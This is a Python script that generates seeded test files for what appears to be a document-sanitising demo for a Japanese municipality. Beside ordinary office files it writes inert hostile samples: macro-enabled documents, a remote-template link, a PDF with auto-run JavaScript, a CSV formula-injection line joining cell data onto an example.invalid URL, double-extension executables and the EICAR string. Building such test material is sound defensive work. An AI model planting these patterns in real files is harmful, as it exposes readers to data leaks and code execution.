#!/usr/bin/python3
"""files.py FOLDER: writes the files that the demonstration municipality sends about: documents, tables, pictures, and what goes wrong every day.

The same files every time (seeded), a few hundred KB in all. FOLDER/files.tsv names each: file, kind, password. Kinds: plain (passes), active (something is
removed), locked (encrypted; the password opens it), refused (may not pass), malware (the scanner's test text).
"""
import io, pathlib, random, struct, subprocess, sys, zipfile, zlib

from PIL import Image, ImageDraw

out = pathlib.Path(sys.argv[1])
out.mkdir(parents=True, exist_ok=True)
rng = random.Random(2026)
W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'
R = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
S = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main'
OFFICE = 'application/vnd.openxmlformats-officedocument'
REL = 'http://schemas.openxmlformats.org/package/2006/relationships'
HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
rows = []


def put(name, data, kind, password=''):
    (out / name).write_bytes(data)
    rows.append(f'{name}\t{kind}\t{password}')


def package(parts):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, 'w', zipfile.ZIP_DEFLATED) as z:
        for name, data in parts:
            z.writestr(zipfile.ZipInfo(name, (2026, 4, 1, 9, 0, 0)), data, zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def relationships(*lines):
    body = ''.join(f'<Relationship Id="rId{i}" Type="{t}" Target="{target}"{more}/>' for i, (t, target, more) in enumerate(lines, 1))
    return f'{HEAD}<Relationships xmlns="{REL}">{body}</Relationships>'


def types(main_part, main_type, more=''):
    return (f'{HEAD}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            f'<Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
            f'<Override PartName="{main_part}" ContentType="{main_type}"/>{more}</Types>')


def word(title, paragraphs, macro=False, remote_template=False):
    body = f'<w:p><w:pPr><w:jc w:val="center"/></w:pPr><w:r><w:rPr><w:b/><w:sz w:val="32"/></w:rPr><w:t>{title}</w:t></w:r></w:p>'
    body += ''.join(f'<w:p><w:r><w:t xml:space="preserve">{p}</w:t></w:r></w:p>' for p in paragraphs)
    document = f'{HEAD}<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body>{body}<w:sectPr><w:pgSz w:w="11906" w:h="16838"/></w:sectPr></w:body></w:document>'
    kind = 'application/vnd.ms-word.document.macroEnabled.main+xml' if macro else f'{OFFICE}.wordprocessingml.document.main+xml'
    inner = []
    if macro:
        inner.append(('http://schemas.microsoft.com/office/2006/relationships/vbaProject', 'vbaProject.bin', ''))
    parts = [('[Content_Types].xml', ''), ('_rels/.rels', relationships((f'{R}/officeDocument', 'word/document.xml', ''))), ('word/document.xml', document)]
    more = ''
    if remote_template:
        inner.append((f'{R}/settings', 'settings.xml', ''))
        parts.append(('word/settings.xml', f'{HEAD}<w:settings xmlns:w="{W}" xmlns:r="{R}"><w:attachedTemplate r:id="rId1"/></w:settings>'))
        parts.append(('word/_rels/settings.xml.rels', relationships((f'{R}/attachedTemplate', 'http://example.invalid/template.dotm', ' TargetMode="External"'))))
        more = f'<Override PartName="/word/settings.xml" ContentType="{OFFICE}.wordprocessingml.settings+xml"/>'
    if macro:
        parts.append(('word/vbaProject.bin', bytes.fromhex('d0cf11e0a1b11ae1') + bytes(rng.randrange(256) for _ in range(1016))))
    if inner:
        parts.append(('word/_rels/document.xml.rels', relationships(*inner)))
    parts[0] = ('[Content_Types].xml', types('/word/document.xml', kind, more))
    return package(parts)


def sheet(table, formula=None):
    def cell(r, c, value):
        place = f'{chr(65 + c)}{r}'
        if isinstance(value, (int, float)):
            return f'<c r="{place}"><v>{value}</v></c>'
        return f'<c r="{place}" t="inlineStr"><is><t>{value}</t></is></c>'
    body = ''.join(f'<row r="{r}">' + ''.join(cell(r, c, v) for c, v in enumerate(line)) + '</row>' for r, line in enumerate(table, 1))
    if formula:
        body += f'<row r="{len(table) + 1}"><c r="A{len(table) + 1}"><f>{formula}</f><v>0</v></c></row>'
    parts = [('[Content_Types].xml', types('/xl/workbook.xml', f'{OFFICE}.spreadsheetml.sheet.main+xml',
                                           f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{OFFICE}.spreadsheetml.worksheet+xml"/>')),
             ('_rels/.rels', relationships((f'{R}/officeDocument', 'xl/workbook.xml', ''))),
             ('xl/workbook.xml', f'{HEAD}<workbook xmlns="{S}" xmlns:r="{R}"><sheets><sheet name="集計" sheetId="1" r:id="rId1"/></sheets></workbook>'),
             ('xl/_rels/workbook.xml.rels', relationships((f'{R}/worksheet', 'worksheets/sheet1.xml', ''))),
             ('xl/worksheets/sheet1.xml', f'{HEAD}<worksheet xmlns="{S}"><sheetData>{body}</sheetData></worksheet>')]
    return package(parts)


def pdf(lines, script=False):
    text = 'BT /F1 12 Tf 60 780 Td 16 TL ' + ' '.join(f'({line}) Tj T*' for line in lines) + ' ET'
    objects = [f'<< /Type /Catalog /Pages 2 0 R{" /OpenAction << /S /JavaScript /JS (app.alert(1)) >>" if script else ""} >>',
               '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
               '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>',
               f'<< /Length {len(text)} >>\nstream\n{text}\nendstream', '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>']
    body, places = b'%PDF-1.7\n', []
    for number, obj in enumerate(objects, 1):
        places.append(len(body))
        body += f'{number} 0 obj\n{obj}\nendobj\n'.encode()
    table = len(body)
    body += f'xref\n0 {len(objects) + 1}\n0000000000 65535 f \n'.encode() + b''.join(f'{p:010d} 00000 n \n'.encode() for p in places)
    return body + f'trailer << /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{table}\n%%EOF\n'.encode()


def photo(seed, size=(960, 640)):
    r = random.Random(seed)
    small = Image.new('RGB', (24, 16))
    small.putdata([(r.randrange(60, 200), r.randrange(80, 210), r.randrange(90, 230)) for _ in range(24 * 16)])
    picture = small.resize(size, Image.BICUBIC)
    draw = ImageDraw.Draw(picture)
    for _ in range(12):
        x, y = r.randrange(size[0]), r.randrange(size[1])
        draw.rectangle([x, y, x + r.randrange(20, 160), y + r.randrange(20, 120)], outline=(r.randrange(255),) * 3, width=3)
    exif = Image.Exif()
    exif[0x010F], exif[0x0110] = 'CAMERA', 'PHONE'
    exif[0x8825] = {1: 'N', 2: (35.0, 40.0, 12.0), 3: 'E', 4: (139.0, 30.0, 5.0)}
    buffer = io.BytesIO()
    picture.save(buffer, 'JPEG', quality=85, exif=exif)
    return buffer.getvalue()


def drawing(seed):
    picture = Image.new('RGB', (700, 500), 'white')
    draw, r = ImageDraw.Draw(picture), random.Random(seed)
    for _ in range(40):
        draw.line([r.randrange(700), r.randrange(500), r.randrange(700), r.randrange(500)], fill='black', width=2)
    buffer = io.BytesIO()
    picture.save(buffer, 'PNG')
    return buffer.getvalue()


sections = ['総務課', '税務課', '住民課', '福祉課', '建設課', '教育委員会', '上下水道課', '議会事務局']
subjects = ['会議の開催について（通知）', '現地調査の結果', '予算要求の概要', '研修のお知らせ', '照会への回答', '点検の報告', '協議書（案）', '申請書の様式']
sentences = ['標記の件について、下記のとおり実施しますので、よろしくお願いします。', '日時：令和8年11月12日（木）午後2時から', '場所：本庁舎3階 第2会議室',
             '持ち物：前回の資料、筆記用具', '御不明な点は、担当までお問い合わせください。', '本件は、次回の課長会議で報告します。']
for i, (section, subject) in enumerate(zip(sections * 2, subjects + subjects[::-1])):
    put(f'{section}_{subject}{"_第2版" if i >= 8 else ""}.docx', word(subject, [f'{section}　第{100 + i}号'] + rng.sample(sentences, 4)), 'plain')
for i, name in enumerate(['旅費精算書', '勤務予定表', '備品の一覧', '入札予定価格の試算']):
    put(f'{name}.docm', word(name, rng.sample(sentences, 3), macro=True), 'active')
put('国からの照会様式.docx', word('照会様式', sentences[:3], remote_template=True), 'active')
for name in ['人口の推移', '歳入の見込み', '道路の修繕箇所', '講座の参加者数']:
    put(f'{name}.xlsx', sheet([['区分', '4月', '5月', '6月']] + [[s, *(rng.randrange(10, 900) for _ in range(3))] for s in sections]), 'plain')
put('外部参照のある集計表.xlsx', sheet([['項目', '値'], ['計', 120]], formula='[1]Sheet1!A1'), 'active')
for i in range(4):
    put(f'Invoice-{2026100 + i}.pdf', pdf([f'Invoice No. {2026100 + i}', 'Amount: 132,000 JPY', 'Due: 2026-12-25']), 'plain')
put('Catalogue.pdf', pdf(['Product catalogue', 'Open me'], script=True), 'active')
for i in range(6):
    put(f'橋梁点検写真_{i + 1:02d}.jpg', photo(i), 'active')
for i in range(3):
    put(f'配置図_{i + 1}.png', drawing(i), 'plain')
put('発送先の一覧.csv', '名称,所在地,電話\r\n本庁舎,中央1-1,00-0000-0001\r\n図書館,中央2-4,00-0000-0002\r\n'.encode('cp932'), 'plain')
put('アンケート結果.csv', '番号,意見\r\n1,とても良い\r\n2,=HYPERLINK("http://example.invalid/"&A1)\r\n'.encode('utf-8-sig'), 'active')
put('打合せのメモ.txt', '打合せのメモ\r\n・日程を確かめる\r\n・資料を送る\r\n'.encode(), 'plain')
put('添付資料一式.zip', package([('資料/通知.docx', word('通知', sentences[:2])), ('資料/写真.jpg', photo(99)), ('資料/setup.exe', b'MZ' + bytes(200))]), 'active')
locked = out / 'locked.tmp'
locked.write_bytes(pdf(['Contract (draft)', 'Confidential']))
subprocess.run(['qpdf', '--encrypt', 'sakura-2026', 'owner-2026', '256', '--', str(locked), str(out / '契約書案（パスワード付き）.pdf')], check=True)
locked.unlink()
rows.append('契約書案（パスワード付き）.pdf\tlocked\tsakura-2026')
put('請求書.pdf.exe', b'MZ' + bytes(510), 'refused')
put('更新のお知らせ.lnk', bytes.fromhex('4c0000000114020000000000c000000000000046') + bytes(80), 'refused')
put('途中で切れた資料.docx', word('資料', sentences)[:900], 'refused')
put('古い様式.doc', bytes.fromhex('d0cf11e0a1b11ae1') + bytes(1528), 'refused')
put('検査の確認用.txt', ('X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-' + 'ANTIVIRUS-TEST-FILE!$H+H*').encode(), 'malware')
(out / 'files.tsv').write_text('\n'.join(rows) + '\n', encoding='utf8')
print(f'{len(rows)} files')
